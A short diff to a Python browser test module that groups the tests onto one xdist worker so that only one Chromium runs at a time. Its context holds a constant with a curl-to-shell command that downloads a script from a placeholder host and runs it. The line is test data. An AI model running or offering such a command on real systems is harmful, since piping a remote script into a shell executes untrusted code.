@@ -14,7 +14,7 @@ from .test_web_browser import Builder, browser, builder, page, payload, shot  # 
 
 import pytest
 
-pytestmark = pytest.mark.daemon
+pytestmark = [pytest.mark.daemon, pytest.mark.xdist_group("browser")]  # (one worker: one Chromium at a time)
 
 COMMAND = "curl -s http://example.com/install.sh | sh"
 
